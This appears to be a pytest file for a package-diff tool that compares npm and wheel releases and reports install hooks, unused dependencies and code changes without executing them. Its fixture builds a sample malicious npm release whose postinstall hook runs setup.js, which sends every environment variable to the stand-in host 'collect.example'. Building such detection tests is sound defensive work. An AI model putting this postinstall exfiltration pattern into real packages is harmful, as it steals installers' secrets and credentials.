"""`pratique diff` on archives and folders: one screen, every form, every gap told, nothing executed."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from tests.standins.archives import npm, wheel

pytest.importorskip("tree_sitter")

OLD = [
    ("package.json", b'{"name": "sample", "version": "1.0.0", "main": "index.js"}'),
    ("index.js", b"exports.a = 1\n"),
]
NEW = [
    (
        "package.json",
        b'{"name": "sample", "version": "1.0.1", "main": "index.js", "dependencies": {"left-behind": "^1.0.0"},\n'
        b' "scripts": {"postinstall": "node setup.js"}}',
    ),
    ("index.js", b"exports.a = 1\n"),
    (
        "setup.js",
        b"const https = require('https')\n"
        b"const body = JSON.stringify(process.env)\n"
        b"const request = https.request({host: 'collect.example', method: 'POST'})\n"
        b"request.end(body)\n",
    ),
]


def run(*words: str, folder: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "pratique", "diff", *words],
        cwd=folder,
        capture_output=True,
        text=True,
        timeout=120,
        env={"PATH": "", "HOME": str(folder), "PYTHONPATH": ":".join(sys.path), "PRATIQUE_ISOLATED": "no"},
        check=False,
    )


@pytest.fixture
def pair(tmp_path: Path) -> Path:
    (tmp_path / "old.tgz").write_bytes(npm(OLD))
    (tmp_path / "new.tgz").write_bytes(npm(NEW))
    return tmp_path


def test_the_screen_tells_what_runs_first_and_what_it_does(pair: Path) -> None:
    done = run("old.tgz", "new.tgz", folder=pair)
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert lines[0] == "sample 1.0.0 → 1.0.1 (npm, patch)"
    assert len(lines) < 60
    at = {line: number for number, line in enumerate(lines)}
    assert at["RUNS BY ITSELF"] < at["DEPENDENCIES"] < at["CAPABILITIES"] < at["MANIFEST"] < at["FILES"] < at["CODE"]
    assert "node setup.js" in lines[at["RUNS BY ITSELF"] + 1]
    assert "left-behind ^1.0.0, imported nowhere" in lines[at["DEPENDENCIES"] + 1]
    assert "collect.example" in done.stdout
    assert "  setup.js  (javascript, added, runs at install)" in lines
    assert "     4 + request.end(body)" in lines
    assert list(pair.glob(".cache/**/*"))
    again = run("old.tgz", "new.tgz", folder=pair)
    assert again.stdout == done.stdout


def test_every_form(pair: Path) -> None:
    told = json.loads(run("old.tgz", "new.tgz", "--format", "json", "--no-memory", folder=pair).stdout)
    assert told["schema"] == "pratique.difference/1"
    assert (told["before"]["version"], told["after"]["version"], told["kind"]) == ("1.0.0", "1.0.1", "patch")
    assert told["code"][0]["path"] == "setup.js"
    assert told["code"][0]["reach"] == "lifecycle"
    sarif = json.loads(run("old.tgz", "new.tgz", "--format", "sarif", "--no-memory", folder=pair).stdout)
    assert any(one["ruleId"].startswith("difference.trigger.") for one in sarif["runs"][0]["results"])
    done = run("old.tgz", "new.tgz", "--format", "html", "--output", "page.html", "--no-memory", folder=pair)
    assert (done.returncode, done.stdout) == (0, "")
    assert "<h1>sample 1.0.0 → 1.0.1 (npm, patch)</h1>" in (pair / "page.html").read_text("utf-8")
    assert not (pair / ".cache").exists()


def test_a_folder_and_an_archive_with_the_same_files_do_not_differ(pair: Path) -> None:
    for name, content in NEW:
        (pair / "unpacked").mkdir(exist_ok=True)
        (pair / "unpacked" / name).write_bytes(content)
    done = run("new.tgz", "unpacked", folder=pair)
    assert done.returncode == 0
    assert "nothing changed, 3 files as before" in done.stdout


def test_what_could_not_be_read_is_told_by_the_exit_code(pair: Path) -> None:
    content = npm([*NEW, ("more.bin", bytes(range(256)) * 400)])
    (pair / "cut.tgz").write_bytes(content[: len(content) - 40])
    done = run("old.tgz", "cut.tgz", folder=pair)
    assert done.returncode == 4
    assert "NOT EXAMINED" in done.stdout
    assert "cut off" in done.stdout


def test_what_is_no_release_is_a_clear_error(pair: Path) -> None:
    (pair / "text.txt").write_text("no archive\n")
    (pair / "sample-1.0-py3-none-any.whl").write_bytes(wheel([("sample/__init__.py", b"")]))
    for words, text in (
        (("old.tgz", "absent.tgz"), "absent.tgz: does not exist"),
        (("text.txt", "new.tgz"), "text.txt: is no archive of a release"),
        (("sample-1.0-py3-none-any.whl", "new.tgz"), "new.tgz: is a release of npm"),
        (("old.tgz", "https://collect.example/a.tgz"), "is an address"),
        (("old.tgz", "npm:absent-package@1.0.0", "--offline"), "npm:absent-package@1.0.0"),
        (("old.tgz", "new.tgz", "--from", "absent"), "--from absent: is no folder"),
    ):
        done = run(*words, folder=pair)
        assert done.returncode == 2, done.stderr
        assert text in done.stderr
        assert "Traceback" not in done.stderr
